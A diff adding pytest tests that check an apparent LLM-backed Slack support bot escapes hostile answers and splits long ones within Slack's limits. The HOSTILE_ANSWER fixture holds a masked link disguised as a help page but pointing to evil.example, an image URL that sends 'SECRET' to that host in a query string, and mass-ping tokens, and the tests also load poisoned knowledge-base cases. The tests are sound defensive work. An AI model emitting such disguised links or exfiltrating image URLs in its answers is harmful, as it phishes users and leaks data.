@@ -674,3 +674,124 @@ async def test_thread_replies_are_handed_to_the_knowledge_sync(kb_app: App, slac
         await runner.cleanup()
 
     assert seen == [("acme", "C444", root)] * 3
+
+
+# --- what goes out: rendered safely, split within Slack's limits, unfurling off ------------------
+
+HOSTILE_TEAM = "T555"
+SHARED_CASES = REPO.parent / "shared" / "cases"
+HOSTILE_ANSWER = (
+    "Reset it here: [https://help.acme.example/reset](https://evil.example/login) [1] "
+    "![x](https://evil.example/p.png?q=SECRET)\n\n"
+    "Ping <!channel> <!here> @everyone @here <@U12345> <!subteam^S1|@team> "
+    "<@&123456789012345678>. Visit <https://evil.example|the official refund page> and "
+    "https://evil.example/bare [2].\n\n```\n# keep **this** <!channel>\n```"
+)
+
+
+@pytest.fixture(scope="module")
+def hostile_workspace(kb_app: App) -> str:
+    """A team whose knowledge holds the shared hostile documents (titles and URLs that try to
+    close links and ping channels)."""
+    kb = kb_app.knowledge
+    kb.create_workspace("hostile", [(IdentityKind.SLACK_TEAM, HOSTILE_TEAM)])
+    for case in ("masked-links", "source-url-pings-channel"):
+        kb.ingest_jsonl("hostile", SHARED_CASES / "security" / case / "kb.jsonl")
+    return "hostile"
+
+
+def _assert_sent_safely(call: Any) -> list[str]:
+    """Unfurling off, every text and section free of pings and of links to anywhere but the
+    answer's sources; returns the section texts."""
+    from tests.chat_checks import bare_addresses, fences_balanced, live_links, pings
+
+    args = call.args
+    assert args.get("unfurl_links") is False and args.get("unfurl_media") is False, args
+    sections = [b["text"]["text"] for b in args.get("blocks") or [] if b["type"] == "section"]
+    for text in [args["text"], *sections]:
+        assert pings(text, "slack") == [], text
+        assert bare_addresses(text, "slack") == [], text
+        assert all(u.startswith("https://help.acme.example/") for u, _ in live_links(text, "slack"))
+        assert "evil.example" not in " ".join(u for u, _ in live_links(text, "slack"))
+        assert fences_balanced(text)
+    assert all(len(s) <= 3_000 for s in sections)
+    assert all(b["text"].get("verbatim") is True for b in args.get("blocks") or [] if "text" in b)
+    return sections
+
+
+async def test_a_hostile_answer_goes_out_escaped_without_pings_links_or_unfurls(
+    http_bot: HttpBot, slack: SlackSimulator, llm: OpenAIChatSimulator, hostile_workspace: str
+):
+    llm.responder = lambda messages: HOSTILE_ANSWER
+
+    await http_bot.post(mention("Where do I reset my password?", team=HOSTILE_TEAM))
+
+    [update] = await answered(slack)
+    [placeholder] = slack.calls_to("chat.postMessage")
+    assert placeholder.args["unfurl_links"] is False and placeholder.args["unfurl_media"] is False
+    [section] = _assert_sent_safely(update)
+    assert "```\n# keep **this** &lt;!channel&gt;\n```" in section  # code as written
+    assert "![" not in section  # the image is its alt text only; its URL is not fetched
+    assert "<https://evil" not in section and "|https://help.acme.example/reset>" not in section
+
+
+async def test_a_long_fenced_answer_is_one_message_of_balanced_valid_sections(
+    http_bot: HttpBot, slack: SlackSimulator, llm: OpenAIChatSimulator
+):
+    answer = (SHARED_CASES / "long-fenced-answer" / "answer.md").read_text(encoding="utf-8")
+    llm.responder = lambda messages: answer
+
+    await http_bot.post(mention("What does the full agent configuration look like?"))
+
+    [update] = await answered(slack)
+    sections = _assert_sent_safely(update)
+    assert len(sections) == 2 and min(map(len, sections)) > 0.8 * max(map(len, sections))
+    assert sections[1].startswith("```\nsetting_")
+    shown = [line for s in sections for line in s.split("\n") if line.startswith("setting_")]
+    assert shown == [line for line in answer.split("\n") if line.startswith("setting_")]
+    assert update.args["blocks"][-1]["type"] == "actions"
+
+
+async def test_a_very_long_answer_spans_messages_within_slacks_limits(
+    http_bot: HttpBot, slack: SlackSimulator, llm: OpenAIChatSimulator, kb_app: App
+):
+    fence = "\n".join(f"key_{n:03d}: value   # 설명 {n} 👍🏽" for n in range(120))
+    answer = "\n\n".join(f"Part {n} [1]:\n\n```yaml\n{fence}\n```" for n in range(8))
+    llm.responder = lambda messages: answer
+    question_ts = "1700007000.000100"
+
+    await http_bot.post(mention("Show me every configuration", ts=question_ts))
+
+    [update] = await answered(slack)
+    await slack.async_wait_for("chat.postMessage", count=3, timeout=20)
+    await asyncio.sleep(0.5)
+    follow_ups = slack.calls_to("chat.postMessage")[1:]  # after the placeholder
+    messages = [update, *follow_ups]
+    sections = [s for call in messages for s in _assert_sent_safely(call)]
+    assert len(messages) >= 3 and all(
+        sum(len(b["text"]["text"]) for b in c.args["blocks"] if "text" in b) <= 12_000
+        and len(c.args["blocks"]) <= 50
+        for c in messages
+    )
+    assert all(s.startswith(("Part", "```yaml\n", "```\n")) for s in sections)
+    assert sum(s.count("key_000:") for s in sections) == 8
+    assert [c.args["blocks"][-1]["type"] for c in messages][-1] == "actions"
+    assert all(c.args["blocks"][-1]["type"] == "section" for c in messages[:-1])
+    assert all(c.args["thread_ts"] == question_ts for c in follow_ups)
+
+
+async def test_setup_notice_placeholder_and_apology_go_out_with_unfurling_off(
+    http_bot: HttpBot, slack: SlackSimulator, llm: OpenAIChatSimulator
+):
+    await http_bot.post(mention("hello?", team="T333"))  # no knowledge: the setup notice
+    await slack.async_wait_for("chat.postMessage", count=1, timeout=10)
+    llm.fail_next(3, status=500)
+    await http_bot.post(mention("What is the API rate limit?"))  # the apology
+    [apology] = await answered(slack)
+
+    calls = slack.calls_to("chat.postMessage") + slack.calls_to("chat.update")
+    assert len(calls) == 3
+    for call in calls:
+        assert call.args["unfurl_links"] is False and call.args["unfurl_media"] is False
+    assert "`supportbot workspace create`" in calls[0].args["text"]
+    assert apology.args["text"].startswith("Sorry, I couldn't answer")
